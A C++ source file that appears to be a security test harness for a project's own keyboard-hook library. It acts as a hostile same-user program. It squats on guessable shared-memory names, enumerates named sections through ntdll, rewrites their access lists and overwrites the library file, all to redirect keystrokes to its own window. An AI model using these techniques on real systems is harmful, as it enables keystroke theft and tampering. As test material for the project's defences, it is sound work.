// A hostile program of the same user that wants the keys the keyboard hook
// reports: it takes the hook's old and guessable block names first, lists the
// session's named objects to find the real block and writes its own window
// into it, derives the name from a written library's key and takes it before
// the program starts its hook, and tries to replace the library's file. It
// prints what each attempt got, and every key message posted to it.
//
//   keyhook-intruder [--at X Y] TITLE
//
// Commands on standard input, one a line; each answer ends with "done VERB":
//   squat        creates the guessable names, its window in each:
//                "squat NAME ok" or "squat NAME error N"
//   scan         lists the session's sections named KeyCount*; for each that it
//                did not make: "found NAME", then "read NAME ok|error N",
//                "write NAME ok|error N" (ok: its window is written in), and
//                "redacl NAME ok|error N" (rewriting the access list, then
//                opening for writing)
//   steal PATH   reads the key from the library file PATH, creates the block
//                name that key gives, with its window and a check that fits:
//                "steal NAME ok" or "steal NAME error N" or "steal nokey"
//   release      closes every block it made: "released N"
//   file PATH    "file read ok|error N", "file write ok|error N",
//                "file delete ok|error N", "file rename ok|error N"
//                (ok: the attempt changed the file or its name)
//   sync         once every message posted before it has been handled
// Every message from WM_USER up to WM_APP posted to its window prints
// "key VK DATA" for the hook's message and "message MSG WPARAM LPARAM" for others.
#include <windows.h>
#include <aclapi.h>
#include <fcntl.h>
#include <io.h>

#include <cstdarg>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

#include "../../src/keyhook/KeyHook.h"
#include "../../src/keyhook/KeyHookKey.h"

namespace {

constexpr UINT kCommandMessage = WM_APP + 1;

HWND g_window;
std::vector<std::string> g_made; // names of the blocks it created
std::vector<HANDLE> g_blocks;

// "WHAT ok", or "WHAT error N" with the error of the attempt that just failed.
void Outcome(const std::string& what, bool ok) {
    const DWORD error = GetLastError();
    if (ok)
        std::printf("%s ok\n", what.c_str());
    else
        std::printf("%s error %lu\n", what.c_str(), error);
    std::fflush(stdout);
}

void Say(const char* format, ...) {
    va_list args;
    va_start(args, format);
    std::vfprintf(stdout, format, args);
    va_end(args);
    std::fputc('\n', stdout);
    std::fflush(stdout);
}

// Writes this window into a block the way the old and the new record lay it
// out: the target first, the process at 8, a check after that.
void WriteWindow(HANDLE block, unsigned long long check = 0) {
    auto* view = static_cast<unsigned char*>(MapViewOfFile(block, FILE_MAP_WRITE, 0, 0, 24));
    if (!view) return;
    const DWORD process = GetCurrentProcessId();
    std::memcpy(view, &g_window, sizeof(g_window));
    std::memcpy(view + 8, &process, sizeof(process));
    std::memcpy(view + 16, &check, sizeof(check));
    UnmapViewOfFile(view);
}

void Create(const std::string& what, const std::string& name, unsigned long long check = 0) {
    HANDLE block = CreateFileMappingA(INVALID_HANDLE_VALUE, nullptr, PAGE_READWRITE, 0, 64, name.c_str());
    Outcome(what + " " + name, block != nullptr);
    if (!block) return;
    WriteWindow(block, check);
    g_made.push_back(name);
    g_blocks.push_back(block);
}

void Squat() {
    // What the library used to use, what a library without a key would derive,
    // and the obvious variants.
    const unsigned char noKey[keyhook::kKeySize] = {};
    char derived[keyhook::kBlockNameSize];
    keyhook::BlockName(noKey, derived);
    const std::string names[] = {"KeyCountData",         "KeyCountOwner", "Local\\KeyCountData",
                                 "Global\\KeyCountData", "KeyCountData-0000000000000000", derived};
    for (const std::string& name : names) {
        Create("squat", name);
    }
}

// The session's named objects, through the system's own directory listing.
struct UnicodeText {
    USHORT length, capacity;
    PWSTR text;
};
struct DirectoryEntry {
    UnicodeText name, type;
};
struct ObjectAttributes {
    ULONG length;
    HANDLE root;
    UnicodeText* name;
    ULONG attributes;
    PVOID descriptor, quality;
};
using OpenDirectoryProc = LONG(WINAPI*)(HANDLE*, ACCESS_MASK, ObjectAttributes*);
using QueryDirectoryProc = LONG(WINAPI*)(HANDLE, PVOID, ULONG, BOOLEAN, BOOLEAN, ULONG*, ULONG*);

std::vector<std::string> SectionsNamed(const char* prefix) {
    std::vector<std::string> found;
    HMODULE ntdll = GetModuleHandleA("ntdll.dll");
    auto open = reinterpret_cast<OpenDirectoryProc>(reinterpret_cast<void*>(GetProcAddress(ntdll, "NtOpenDirectoryObject")));
    auto query =
        reinterpret_cast<QueryDirectoryProc>(reinterpret_cast<void*>(GetProcAddress(ntdll, "NtQueryDirectoryObject")));
    DWORD session = 0;
    ProcessIdToSessionId(GetCurrentProcessId(), &session);
    wchar_t path[64];
    wsprintfW(path, L"\\Sessions\\%lu\\BaseNamedObjects", session);
    UnicodeText name{static_cast<USHORT>(lstrlenW(path) * 2), static_cast<USHORT>(sizeof(path)), path};
    ObjectAttributes attributes{sizeof(attributes), nullptr, &name, 0x40 /* case insensitive */, nullptr, nullptr};
    HANDLE directory = nullptr;
    const LONG status = open ? open(&directory, 1 /* DIRECTORY_QUERY */, &attributes) : -1;
    if (status < 0) {
        Say("scan cannot list %ls: status %lx", path, static_cast<unsigned long>(status));
        return found;
    }
    alignas(8) unsigned char buffer[4096];
    ULONG context = 0, size = 0;
    while (query(directory, buffer, sizeof(buffer), TRUE, FALSE, &context, &size) >= 0) {
        const auto* entry = reinterpret_cast<const DirectoryEntry*>(buffer);
        char text[256] = {}, type[64] = {};
        WideCharToMultiByte(CP_ACP, 0, entry->name.text, entry->name.length / 2, text, sizeof(text) - 1, nullptr, nullptr);
        WideCharToMultiByte(CP_ACP, 0, entry->type.text, entry->type.length / 2, type, sizeof(type) - 1, nullptr, nullptr);
        if (std::strcmp(type, "Section") == 0 && std::strncmp(text, prefix, std::strlen(prefix)) == 0)
            found.push_back(text);
    }
    CloseHandle(directory);
    return found;
}

void Scan() {
    for (const std::string& name : SectionsNamed("KeyCount")) {
        bool ours = false;
        for (const std::string& made : g_made) ours |= made == name;
        if (ours) continue;
        Say("found %s", name.c_str());
        HANDLE block = OpenFileMappingA(FILE_MAP_READ, FALSE, name.c_str());
        Outcome("read " + name, block != nullptr);
        if (block) CloseHandle(block);
        block = OpenFileMappingA(FILE_MAP_WRITE, FALSE, name.c_str());
        Outcome("write " + name, block != nullptr);
        if (block) {
            WriteWindow(block);
            CloseHandle(block);
        }
        // The owner of an object may usually rewrite its access list.
        block = OpenFileMappingA(WRITE_DAC, FALSE, name.c_str());
        DWORD error = block ? SetSecurityInfo(block, SE_KERNEL_OBJECT, DACL_SECURITY_INFORMATION, nullptr, nullptr,
                                              nullptr, nullptr)
                            : GetLastError();
        if (block) CloseHandle(block);
        if (error == ERROR_SUCCESS) {
            block = OpenFileMappingA(FILE_MAP_WRITE, FALSE, name.c_str());
            error = block ? ERROR_SUCCESS : GetLastError();
            if (block) {
                WriteWindow(block);
                CloseHandle(block);
            }
        }
        SetLastError(error);
        Outcome("redacl " + name, error == ERROR_SUCCESS);
    }
}

bool ReadFileBytes(const char* path, std::vector<unsigned char>& bytes) {
    HANDLE file = CreateFileA(path, GENERIC_READ, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, nullptr,
                              OPEN_EXISTING, 0, nullptr);
    if (file == INVALID_HANDLE_VALUE) return false;
    bytes.resize(GetFileSize(file, nullptr));
    DWORD read = 0;
    const BOOL ok = ReadFile(file, bytes.data(), static_cast<DWORD>(bytes.size()), &read, nullptr);
    CloseHandle(file);
    bytes.resize(read);
    return ok;
}

void Steal(const char* path) {
    std::vector<unsigned char> bytes;
    const long at = ReadFileBytes(path, bytes) ? keyhook::KeyOffset(bytes.data(), bytes.size()) : -1;
    if (at < 0) return Say("steal nokey");
    const unsigned char* key = bytes.data() + at;
    char name[keyhook::kBlockNameSize];
    keyhook::BlockName(key, name);
    const auto window = static_cast<unsigned long>(reinterpret_cast<UINT_PTR>(g_window));
    Create("steal", name, keyhook::TargetCheck(key, window, GetCurrentProcessId()));
}

void AttackFile(const char* path) {
    std::vector<unsigned char> bytes;
    Outcome("file read", ReadFileBytes(path, bytes));
    HANDLE file = CreateFileA(path, GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, nullptr,
                              OPEN_EXISTING, 0, nullptr);
    Outcome("file write", file != INVALID_HANDLE_VALUE);
    if (file != INVALID_HANDLE_VALUE) {
        DWORD written = 0;
        WriteFile(file, "MZ intruder", 11, &written, nullptr);
        CloseHandle(file);
    }
    Outcome("file delete", DeleteFileA(path));
    const std::string moved = std::string(path) + ".moved";
    Outcome("file rename", MoveFileA(path, moved.c_str()));
}

void Run(const std::string& line) {
    char verb[16] = {};
    std::sscanf(line.c_str(), "%15s", verb);
    const std::string command = verb;
    const char* argument = line.c_str() + command.size();
    while (*argument == ' ') ++argument;
    if (command == "squat") {
        Squat();
    } else if (command == "scan") {
        Scan();
    } else if (command == "steal") {
        Steal(argument);
    } else if (command == "release") {
        for (HANDLE block : g_blocks) CloseHandle(block);
        Say("released %u", static_cast<unsigned>(g_blocks.size()));
        g_blocks.clear();
        g_made.clear();
    } else if (command == "file") {
        AttackFile(argument);
    } else if (command == "quit") {
        DestroyWindow(g_window);
        return;
    } else if (command != "sync") {
        Say("unknown %s", line.c_str());
    }
    Say("done %s", command.c_str());
}

LRESULT CALLBACK IntruderProc(HWND window, UINT message, WPARAM wParam, LPARAM lParam) {
    switch (message) {
    case keyhook::kKeyMessage:
        Say("key %lu %08lX", static_cast<unsigned long>(wParam), static_cast<unsigned long>(lParam));
        return 0;
    case kCommandMessage: {
        auto* line = reinterpret_cast<std::string*>(lParam);
        Run(*line);
        delete line;
        return 0;
    }
    case WM_DESTROY:
        PostQuitMessage(0);
        return 0;
    default:
        if (message >= WM_USER && message < WM_APP)
            Say("message %X %lX %lX", message, static_cast<unsigned long>(wParam), static_cast<unsigned long>(lParam));
        return DefWindowProcA(window, message, wParam, lParam);
    }
}

DWORD WINAPI ReadCommands(LPVOID) {
    char buffer[512];
    while (std::fgets(buffer, sizeof(buffer), stdin)) {
        std::string line = buffer;
        while (!line.empty() && (line.back() == '\n' || line.back() == '\r')) line.pop_back();
        if (!line.empty()) PostMessageA(g_window, kCommandMessage, 0, reinterpret_cast<LPARAM>(new std::string(line)));
    }
    PostMessageA(g_window, kCommandMessage, 0, reinterpret_cast<LPARAM>(new std::string("quit")));
    return 0;
}

} // namespace

int main(int argc, char** argv) {
    const char* title = nullptr;
    int x = 40, y = 40;
    for (int i = 1; i < argc; ++i) {
        if (std::strcmp(argv[i], "--at") == 0 && i + 2 < argc) {
            x = std::atoi(argv[++i]);
            y = std::atoi(argv[++i]);
        } else if (!title) {
            title = argv[i];
        }
    }
    if (!title) {
        std::fputs("usage: keyhook-intruder [--at X Y] TITLE\n", stderr);
        return 2;
    }
    _setmode(_fileno(stdout), _O_BINARY);
    HINSTANCE instance = GetModuleHandleA(nullptr);
    WNDCLASSA windowClass{};
    windowClass.lpfnWndProc = IntruderProc;
    windowClass.hInstance = instance;
    windowClass.hbrBackground = reinterpret_cast<HBRUSH>(COLOR_BTNFACE + 1);
    // The program's own window class name, in case the hook looked only at that.
    windowClass.lpszClassName = "OrvaneForm";
    RegisterClassA(&windowClass);
    g_window = CreateWindowExA(0, "OrvaneForm", title, WS_OVERLAPPEDWINDOW, x, y, 300, 80, nullptr, nullptr,
                               instance, nullptr);
    if (!g_window) return 1;
    ShowWindow(g_window, SW_SHOWNOACTIVATE);
    CloseHandle(CreateThread(nullptr, 0, ReadCommands, nullptr, 0, nullptr));
    Say("ready");
    MSG message;
    while (GetMessageA(&message, nullptr, 0, 0) > 0) {
        TranslateMessage(&message);
        DispatchMessageA(&message);
    }
    return 0;
}
